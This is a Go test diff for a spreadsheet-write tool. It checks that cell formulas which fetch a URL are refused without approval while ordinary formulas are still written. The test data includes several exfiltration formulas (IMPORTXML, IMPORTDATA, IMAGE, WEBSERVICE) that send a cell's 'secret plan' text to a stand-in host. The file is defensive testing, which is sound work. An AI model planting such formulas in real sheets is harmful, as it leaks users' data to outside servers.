@@ -76,3 +76,35 @@ func TestSheetFillChangedDuringFill(t *testing.T) {
 		t.Fatalf("fill over a changed cell: %v", err)
 	}
 }
+
+
+// TestSheetWriteFetchingFormula: a formula that makes the app fetch a URL
+// (Google Sheets' IMPORTXML sends any cell's data to any URL) is a send,
+// and one cell's write has no approval: it is refused before the page is
+// touched, and sheet fill, which asks, is named. A formula that only
+// computes is written as before.
+func TestSheetWriteFetchingFormula(t *testing.T) {
+	s, ctx := newSession(t)
+	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"secret plan", ""}, {"2", "3"}}})
+	for _, v := range []string{
+		`=IMPORTXML("http://127.0.0.1:1/x?d="&A1, "//a")`,
+		`=importdata ("http://127.0.0.1:1/" & A1)`,
+		`+IMAGE("http://127.0.0.1:1/p.png?"&A1)`,
+		` =1+WEBSERVICE("http://127.0.0.1:1/"&A1)`,
+	} {
+		_, err := s.SheetWrite(ctx, calls.SheetWriteRequest{Cell: "B1", Value: v})
+		if calls.Code(err) != "needs_approval" || !strings.Contains(calls.Hint(err), "sheet fill") {
+			t.Errorf("write %s: %v", v, err)
+		}
+		if got := appValue(t, s, ctx, 1, 0); got != "" {
+			t.Fatalf("B1 holds %q after an unapproved fetching formula", got)
+		}
+	}
+	res, err := s.SheetWrite(ctx, calls.SheetWriteRequest{Cell: "B1", Value: "=A2*B2"})
+	if err != nil || res.After != "6" {
+		t.Fatalf("a formula that computes: %+v %v", res, err)
+	}
+	if got := appValue(t, s, ctx, 1, 0); got != "=A2*B2" {
+		t.Fatalf("B1 holds %q", got)
+	}
+}
